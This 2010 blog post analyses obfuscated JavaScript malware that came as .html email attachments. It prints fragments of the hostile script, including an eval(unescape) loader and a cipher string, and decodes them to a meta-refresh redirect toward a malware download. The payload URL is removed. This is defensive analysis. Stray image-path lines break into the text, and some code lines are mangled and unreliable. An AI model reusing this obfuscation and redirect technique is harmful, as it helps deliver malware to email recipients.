Monday, September 20, 2010

Decoding "html" viruses

My company has been getting a rash of viruses that come in as .html attachments.
The latest set has subject lines of "Delivery Status Notification (Failure)"

The interesting and useful thing about this viruses is that they are in obfuscated text form and you can decode them with effort.

If you look at the text it comes in as "Base 64" encoding and looks like:

Content-Type: text/html; name="4727911.html"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="4727911.html"
This example is:


Which you can put through a decoder at:

Which gives you a Javascript all on one very long line.

Then you can take that and put it through a "beautifier" at

Which yields something that looks like a long unerased whiteboard.
various things added lie [lessthan] to keep the system from thinking this is a script or html.

function etgr(zj4r) {
bo97, bvgy = "",
kpn8, iyv2 = "0ocdfum;ip/qrlx=nt.-:v he>s\"a[lessthan]",
p3je, j446 = iyv2.length;
eval(unescape("%66un%63ti%6Fn r%61iy%28ku%79c){%62vg%79+=%6Buyc%7D"));
for (p3je = 0; p3je < bo97 =" zj4r.charAt(p3je);" kpn8 =" iyv2.indexOf(bo97);"> -1) {
kpn8 -= (p3je + 1) % j446;
if (kpn8 < 67y="%22%22;">s-0me-h;c=ox>ft:.h-00n.s-v:d;=x e\"moc>;a[lessthan]msatmsol[lessthan].ituqchiix-e[lessthan]u0:alpaxr");So far the point of these viral scripts is to get the browser to go to a website and download and install malware. The majority of this script is junk. What you're looking for is something that can make a URL. So it's the longer lines that you want to look at.

Let's examine
eval(unescape("%66un%63ti%6Fn r%61iy%28ku%79c){%62vg%79+=%6Buyc%7D"));
eval(unescape("%66un%63ti%6Fn r%61iy%28ku%79c){%62vg%79+=%6Buyc%7D"));

By putting the stuff in quotes into yet another online URL translator at

The first line says

function raiy(kuyc){bvgy =kuyc}

Define a function called raiy that takes a value called kuyc and sets bvgy equal to it.

and the next says


The second line means write nothing so that's more junk.

The line
kpn8, iyv2 = "0ocdfum;ip/qrlx=nt.-:v he>s\"a<",

Looks way odd, but remember most of this is smoke, so keep the elements in mind.
This line sets two variables kpn8 and iyv2
How are these used in the scripts?

kpn8 is used but its meaning is changed immediately:
kpn8 = iyv2.indexOf(bo97);

which given that bo97 is nothing ("") I actually don't know what indexOf nothing does but 0 seems a safe bet.

and iyv2

p3je, j446 = iyv2.length;

The length of that string is 31.
The last list called the previously defined function raiy and sends a 0 to it.

By the way, the meaning of the Javascript indexOf and charAt at explained here:

Looking back over the script I think we currently have a whole lot of possibly nothing.

The verylast line is very suspect:

etgr("0i\"vda0>s-0me-h;c=ox>ft:.h-00n.s-v:d;=xe\"moc>;a<.ituqchiix-e

Out of desperation I googled
and learned that other people where chasing the same thing down and were using this very cool (do I still get to say that?) site that also has an online decoder to which you can feed urls or scripts:

js unpack can handle multiple levels of Javascript so it goes through the same steps I did but then does another one.

And we get:
//eval function raiy(kuyc){bvgy+=kuyc}
//eval document.write(bvgy);bvgy="";
//document.write (s)[less than]meta equiv="refresh" content="0;url=">
[less than] meta http-equiv="refresh" content="0;url=h[.]ttp://" />

(I inserted the [.] to break the link.)

Bing Bing Bing! We have a winner - a URL. The jsunpack site goes on to check that the link has since been removed and is no longer a threat. Same scenario. Someone broke into that site and uploaded the virus x.html and then send out a bunch of .html emails that point to it and the victim's browser then downloads it and (if the use is an "Administrator") then installs it.

This is why on Windows it's a Really Good Idea to not bea user who has Administrator access when you're doing non-administrative things like reading email.

Now I really want to know how the unpacker was able to decode thatlast line in the scripts.PS An excellent write up of an older (but easier to decipher) outbreak can befound at:

No comments: